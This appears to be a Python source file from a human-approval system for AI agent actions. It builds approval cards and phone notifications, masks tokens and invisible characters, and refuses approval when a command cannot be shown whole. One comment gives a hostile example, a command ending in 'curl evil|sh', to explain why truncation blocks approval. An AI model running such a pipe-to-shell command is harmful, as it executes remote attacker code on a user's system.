"""What an approval card says, as data built from an approval and its task.

Surfaces render `ApprovalCard`; they never look at tasks. Content that may be long or
secret (bodies, payloads, file content) is shortened here, once, for every surface, and
every text on a card is shown here as people are shown text (`masked`, with
`runtime.text.shown`: URLs with user info and query values as •••, internationalized
hosts as punycode, bidi overrides and other invisible characters as visible escapes), so
no surface can show a token an approver does not need, or text that reads otherwise
than it is.
"""

from __future__ import annotations

import dataclasses
import sys
import unicodedata
from collections.abc import Awaitable, Callable, Collection

from signoff.bot.names import ShowsNames
from signoff.bot.ports import ApprovalCard
from signoff.runtime.models import Action, Approval, ApprovalStatus, RiskClass, Scope, Task
from signoff.runtime.people import NOBODY_LISTED
from signoff.runtime.text import SHORT, shorten, shown
from signoff.runtime.tools.base import Preview
from signoff.runtime.words import SCOPE_WORDS, WITHDRAWN, at_hhmm, held_words, progress

# What the wiring gives the flow and the console to ask a tool what a call will do
# (`ToolRegistry.preview` with the node's ToolContext); None when it cannot say.
Previewer = Callable[[Action], Awaitable[Preview | None]]

UNDO_LABEL = "Undo"  # the one button of a held card

# The labels every surface puts on its buttons, in this order.
BUTTON_LABELS = {
    Scope.ONCE: "Once",
    Scope.SESSION: "Session",
    Scope.ALWAYS: "Always",
    Scope.DENY: "Deny",
}

WHY = 200  # the agent's words on a card: enough to judge, short enough for a phone
# A claim, not a fact: every surface says whose words they are — our agent's (the model's,
# on a task's card) or the outside requester's (POST /v1/approvals).
WHY_LABEL = "Why (agent)"
WHY_REQUESTER_LABEL = "Why (requester)"


# -- phone notifications (Web Push, ntfy) ------------------------------------------------
NOTIFICATION_TITLE = 200  # characters of a notification's title

# Whether a notification with this title and text fits the message its surface sends,
# measured on that message as it goes out: push services and ntfy count bytes, and a
# Cyrillic letter is 2 of them, an emoji 4 (12 as a JSON escape). The surface owns the
# measure; `notification` cuts the text until it holds, and the cut decides Once.
Fits = Callable[[str, str], bool]


def _always(title: str, text: str) -> bool:
    return True


@dataclasses.dataclass(frozen=True)
class Notification:
    """A card as a phone notification: its title, its text, and whether the two show
    everything a decision on the card approves, uncut (`notification`)."""

    title: str
    text: str
    whole: bool


def notification(card: ApprovalCard, note: str | None, limit: int,
                 fits: Fits = _always) -> Notification:
    """``card`` as the plain lines of a phone notification (Web Push, ntfy).

    The title is the risk and the action; the text the note (a reminder's words), then
    what a decision approves — every target, every content line, the preview (the whole
    command, the diff) — then the proposer's words and last where the request comes
    from: a requester's name or policy id is the caller's own choice, and must not push
    the content out of a text cut at ``limit`` characters (the title at
    `NOTIFICATION_TITLE`), each with an ellipsis. The text is cut further until the
    surface's ``fits`` holds for the title and it (the bytes of the message it sends).
    ``whole`` only when neither was cut and the card itself carries everything uncut
    (`complete`): so the cut that makes a message fit is the one that takes Once off it.
    """
    title = f"{card.risk}: {card.title}"
    lines = [note] if note else []
    if card.targets:
        lines.append("Targets: " + ", ".join(card.targets))
    lines += [f"{label}: {value}" for label, value in card.details]
    if card.preview is not None:
        lines += [f"{card.preview.label}:", card.preview.text]
    why = why_line(card)
    if why:
        lines.append(why)
    lines.append(card.origin)
    text = "\n".join(lines)
    shown_title = _cut(title, NOTIFICATION_TITLE)
    shown_text = _cut(text, limit, lambda start: fits(shown_title, start))
    whole = complete(card, None) and shown_title == title and shown_text == text
    return Notification(title=shown_title, text=shown_text, whole=whole)


def notification_scopes(card: ApprovalCard, note: str | None, limit: int,
                        actions_for: Collection[str], fits: Fits = _always
                        ) -> tuple[Scope, ...]:
    """The decisions a notification of ``card`` carries (a phone shows two at most):
    none for a request decided elsewhere, under step-up or of a risk class not in
    ``actions_for`` (it carries Open only); else Deny — denying approves nothing, so it
    needs no whole text — and Once only when the notification shows the whole action
    (`notification`, with the surface's ``limit`` and ``fits``). One rule for what a
    surface sends and for what it decides (`notification_decides`)."""
    if not card.open or card.step_up or card.risk not in actions_for:
        return ()
    whole = notification(card, note, limit, fits).whole
    return tuple(scope for scope in (Scope.ONCE, Scope.DENY)
                 if scope in card.allowed and (whole or not scope.approves))


def notification_decides(card: ApprovalCard, limit: int, actions_for: Collection[str],
                         fits: Fits = _always) -> bool:
    """True when a notification of ``card`` offers an approving decision: the answer to
    `bot.ports.ShowsCards` of a notification surface, which the flow asks again when a
    token arrives: an approving one for a card it could not show whole (a message sent
    before this rule, say) is refused."""
    return any(scope.approves for scope in notification_scopes(card, None, limit,
                                                                actions_for, fits))


def _cut(text: str, limit: int, fits: Callable[[str], bool] = lambda _: True) -> str:
    """``text`` whole when it has at most ``limit`` characters and ``fits``; else its
    longest start that, with an ellipsis, does both. The measure is of the text as the
    message will carry it, so a cut is between characters, never inside one's bytes or
    escape, and it steps back to where a person reads a new character (`_joined`)."""
    if len(text) <= limit and fits(text):
        return text
    # ``fits`` holds for every start shorter than one it holds for (a character adds
    # bytes, never removes them): the longest is found in log2(limit) measures.
    low, high = 0, max(0, min(len(text), limit) - 1)
    while low < high:
        middle = (low + high + 1) // 2
        if fits(text[:middle] + "…"):
            low = middle
        else:
            high = middle - 1
    while 0 < low < len(text) and _joined(text, low):
        low -= 1
    return text[:low] + "…"


# What a person reads as part of the character before it: a skin tone after an emoji,
# the second half of a surrogate pair (a str from UTF-16 that did not combine them).
_JOINS = (("\U0001f3fb", "\U0001f3ff"), ("\udc00", "\udfff"))
_FLAGS = ("\U0001f1e6", "\U0001f1ff")  # regional indicators: a flag is two of them


def _joined(text: str, at: int) -> bool:
    """True when ``text[at]`` belongs with the character before it: a combining mark
    (an accent written apart, a variation selector, a keycap), a `_JOINS` character, or
    the second letter of a flag. Cutting there would show another character ("e" for
    "é", "🇩" for "🇩🇪"), which a notification must not do silently."""
    char = text[at]
    if unicodedata.category(char).startswith("M"):
        return True
    if any(first <= char <= last for first, last in _JOINS):
        return True
    if not _FLAGS[0] <= char <= _FLAGS[1]:
        return False
    run = 0  # the flag letters before this one: an odd count leaves this one's pair
    while at - run > 0 and _FLAGS[0] <= text[at - run - 1] <= _FLAGS[1]:
        run += 1
    return run % 2 == 1


def why_line(card: ApprovalCard) -> str | None:
    """``Why (agent): …`` or ``Why (requester): …`` for a card that carries the words of
    whoever proposed the action, else None."""
    if not card.why:
        return None
    label = WHY_LABEL if card.task_id is not None else WHY_REQUESTER_LABEL
    return f"{label}: {card.why}"

def describe(action: Action) -> str:
    """The action in plain words, as its tool put it when the registry prepared it."""
    if action.summary:
        return action.summary
    targets = ", ".join(action.targets)
    return f"Run {action.tool}" + (f" on {targets}" if targets else "")


CARD_CONTENT = 1000  # characters of each content argument a card carries whole

# An MCP tool's description as its server lists it (`Action.description`): the server's
# claim, not ours, so its line says whose words they are. It is hostile text like any
# argument: one plain line, shortened, then shown as every card text is (`masked`), and
# escaped by each surface as it escapes content.
DESCRIBED_LABEL = "The server describes this tool as"
DESCRIBED = 300  # characters of it: enough to see what the tool claims to do


def described_line(action: Action) -> tuple[str, str] | None:
    """``(DESCRIBED_LABEL, the first DESCRIBED characters of the description)`` for an
    action whose tool's server described it, else None."""
    if not action.description or not action.description.strip():
        return None
    return DESCRIBED_LABEL, shorten(action.description, DESCRIBED)


def content_lines(action: Action, limit: int = SHORT) -> tuple[tuple[str, str], ...]:
    """Message content shortened to ``limit`` characters each, to show on a card (and in
    notifications whose rule sets ``include_content``)."""
    return tuple(
        (name, shorten(action.args[name], limit))
        for name in action.content if action.args.get(name)
    )


def progress_line(approval: Approval, people: ShowsNames = NOBODY_LISTED) -> str | None:
    """"1 of 2 approvals (alice)" for a request under a quorum, else None; each voter by
    their person's name (``[[people]]``), else their account."""
    if approval.needed <= 1:
        return None
    line = progress(approval)
    if approval.votes:
        line += " (" + ", ".join(people.names(v.actor for v in approval.votes)) + ")"
    return line


def outcome_line(approval: Approval, people: ShowsNames = NOBODY_LISTED) -> str | None:
    """"Approved for this session by alice at 14:03 UTC" (the decider's person's name,
    else their account, e.g. slack:U1), or None while pending."""
    if approval.status is ApprovalStatus.PENDING:
        return None
    when = at_hhmm(approval.decided_at)
    if approval.status is ApprovalStatus.EXPIRED:
        return f"Expired — denied at {when}"
    if approval.status is ApprovalStatus.WITHDRAWN:
        by = people.name(approval.decided_by) if approval.decided_by else "the requester"
        return f"{WITHDRAWN} by {by} at {when}"
    words = SCOPE_WORDS.get(approval.scope or Scope.DENY, "Decided")
    who = people.name(approval.decided_by) if approval.decided_by else "someone"
    if approval.needed > 1 and approval.status is not ApprovalStatus.DENIED:
        who = ", ".join(people.names(v.actor for v in approval.votes)) or who
    line = f"{words} by {who} at {when}"
    if approval.status is ApprovalStatus.HELD and approval.hold_until is not None:
        line += f" — {held_words(approval)}"
    if approval.status is ApprovalStatus.DENIED and approval.reason:
        line += f": {shorten(approval.reason, 80)}"
    return line


def console_link(console_url: str | None, approval: Approval) -> str | None:
    """Where the console shows this request: its task's page, or the approvals page."""
    if not console_url:
        return None
    base = console_url.rstrip("/")
    if approval.task_id is None:
        return f"{base}/#card-{approval.id}"
    return f"{base}/console/tasks/{approval.task_id}"


def identical_words(count: int) -> str | None:
    """"3 identical requests" for a card that stands for several (None for one)."""
    return f"{count} identical requests" if count > 1 else None


def card_page(console_url: str | None, approval_id: str) -> str | None:
    """The console page of one request (its decision, Undo while held, a step-up)."""
    if not console_url:
        return None
    return f"{console_url.rstrip('/')}/console/cards/{approval_id}"


def confirm_link(console_url: str | None, approval: Approval) -> str | None:
    """The console page of this one request, where a step-up request is decided."""
    return card_page(console_url, approval.id)


def steps_up(approval: Approval, step_up: frozenset[RiskClass]) -> bool:
    """True when this request is decided in the console only (``approvals.step_up``)."""
    return (approval.action.risk or RiskClass.SEND) in step_up


# -- is this card complete? --------------------------------------------------------------
# A decision approves the action whole: the command to its last character, every target,
# the content. A card that shows part of that (a 3,000-character command whose tail is
# `curl evil|sh`, cut to fit a chat message) must not offer Approve: the surface shows
# the card without decision buttons, with a link to the console (which shows it all),
# like a step-up card — and a click on it anyway is refused (`ApprovalFlow`). Each surface
# asks `decides_here` with its own limit; the rule is only here.
CUT_TEXT = ("✂️ Too long to show whole here: open it in the console to see all of it "
            "and decide.")
_ESCAPED = "&<>\"'"  # characters a surface may write as an entity (&amp; … &#x27;)
_MARKUP = 8  # characters a surface may put around each text (quotes, code marks, ", ")


def approvable_texts(card: ApprovalCard) -> tuple[str, ...]:
    """What a decision on ``card`` approves, as the card says it: its targets, its
    content lines and its preview (what it will do: the whole command, the diff)."""
    texts = [*card.targets, *(f"{label}: {value}" for label, value in card.details)]
    if card.preview is not None:
        texts += (card.preview.label, card.preview.text)
    return tuple(texts)


def shown_size(text: str) -> int:
    """The most characters ``text`` takes on any surface: each character a surface may
    escape counted as its longest entity (6), and room for markup around it."""
    return len(text) + 5 * sum(text.count(c) for c in _ESCAPED) + _MARKUP


def complete(card: ApprovalCard, limit: int | None) -> bool:
    """True when ``card`` carries everything its decision approves uncut and, on a
    surface that shows at most ``limit`` characters of it (None: no limit), all of it
    fits (`shown_size`)."""
    if card.cut or (card.preview is not None and card.preview.cut):
        return False
    return limit is None or sum(map(shown_size, approvable_texts(card))) <= limit


def decides_here(card: ApprovalCard, limit: int | None) -> bool:
    """True when a surface showing at most ``limit`` characters of what a card approves
    may offer decisions on ``card``: neither under step-up nor incomplete there."""
    return not card.step_up and complete(card, limit)


def console_only_text(card: ApprovalCard) -> str:
    """What a card without decision buttons says about where it is decided."""
    if card.step_up:
        return PASSKEY_TEXT if card.passkey else STEP_UP_TEXT
    return CUT_TEXT


STEP_UP_TEXT = "🔐 Decided in the console only (step-up): open it to approve or deny."
PASSKEY_TEXT = ("🔐 Confirmed with a passkey in the console only (step-up): open it to "
                "approve or deny.")


def build_card(task: Task | None, approval: Approval, *, console_url: str | None = None,
               mentions: tuple[str, ...] = (), preview: Preview | None = None,
               step_up: frozenset[RiskClass] = frozenset(),
               identical: int = 1, people: ShowsNames = NOBODY_LISTED,
               passkey: bool = False) -> ApprovalCard:
    """The card for one approval request: of a task, or (``task`` None) from outside.

    ``preview`` (from `preview_for`) is shown while the request is pending; every text
    on the card comes out URL-masked. ``identical`` is how many requests it stands for
    (coalescing): the title says so on every surface, since one answer decides them all.
    ``people``: who decided is shown by their person's name. ``passkey``: a step-up card
    is confirmed with a passkey (``approvals.step_up_with = "passkey"``).
    """
    card = masked(_card(task, approval, console_url=console_url, mentions=mentions,
                        preview=preview if approval.status is ApprovalStatus.PENDING
                        else None, step_up=step_up, identical=identical, people=people))
    return dataclasses.replace(card, passkey=True) if passkey and card.step_up else card


async def preview_for(previews: Previewer | None, approval: Approval) -> Preview | None:
    """What the pending ``approval``'s action will do, as its tool says now; None once it
    is decided — by then the file may already be written, and a diff of the new file
    against itself would say "no change" about a change that happened."""
    if previews is None or approval.status is not ApprovalStatus.PENDING:
        return None
    return await previews(approval.action)


def _content(action: Action) -> tuple[tuple[tuple[str, str], ...], bool]:
    """The content lines a card carries (each up to CARD_CONTENT characters), and whether
    any had to be cut to that."""
    whole = content_lines(action, sys.maxsize)
    return (tuple((name, shorten(value, CARD_CONTENT)) for name, value in whole),
            any(len(value) > CARD_CONTENT for _, value in whole))


# Every text of a card that can carry words of an agent or a caller (a URL with a token,
# a bidi override); an outside request names its own tool and policy id.
_MASKED_FIELDS = ("title", "tool", "capability", "targets", "goal", "schedule", "details",
                  "outcome", "note", "why", "requester", "policy_id")


def masked(card: ApprovalCard) -> ApprovalCard:
    """``card`` with its texts and its preview as people are shown them
    (`runtime.text.shown`: URLs masked, IDN hosts as punycode, invisible characters as
    escapes)."""
    changes: dict[str, object] = {name: shown(getattr(card, name)) for name in _MASKED_FIELDS}
    if card.preview is not None:
        changes["preview"] = dataclasses.replace(card.preview, text=shown(card.preview.text),
                                                 label=shown(card.preview.label))
    return dataclasses.replace(card, **changes)  # type: ignore[arg-type]


def _card(task: Task | None, approval: Approval, *, console_url: str | None,
          mentions: tuple[str, ...], preview: Preview | None,
          step_up: frozenset[RiskClass], identical: int, people: ShowsNames) -> ApprovalCard:
    action = approval.action
    stepped = steps_up(approval, step_up)
    group = identical_words(identical)
    details, cut = _content(action)
    described = described_line(action)
    if described is not None:  # after the content, so a surface's budget keeps that first
        details += (described,)
    total = (len(task.steps or []) or 1) if task is not None else 1
    goal = task.goal if task is not None else (approval.goal or "")
    return ApprovalCard(
        approval_id=approval.id,
        task_id=task.id if task is not None else None,
        title=describe(action) + (f" · {group}" if group else ""),
        tool=action.tool,
        risk=action.risk.value if action.risk else "SEND",
        capability=action.capability or "",
        targets=tuple(action.targets),
        goal=shorten(goal, 200),
        schedule=task.schedule if task is not None else None,
        step=approval.step + 1,
        steps_total=max(total, approval.step + 1),
        details=details,
        allowed=tuple(approval.allowed_scopes),
        requested_at=approval.requested_at,
        expires_at=approval.expires_at,
        status=approval.status.value,
        outcome=outcome_line(approval, people),
        decided_by=approval.decided_by,
        decided_at=approval.decided_at,
        note=approval.note,
        why=shorten(approval.why, WHY) if approval.why else None,
        mentions=mentions,
        console_url=console_link(console_url, approval),
        step_up=stepped,
        # Where a card without decision buttons (step-up, cut) sends the approver.
        confirm_url=confirm_link(console_url, approval),
        requester=shorten(approval.requester, 120) if approval.requester else None,
        policy_id=approval.policy_id if task is None else None,
        progress=progress_line(approval, people),
        hold_until=approval.hold_until if approval.status is ApprovalStatus.HELD else None,
        preview=preview,
        identical=identical,
        cut=cut,
    )
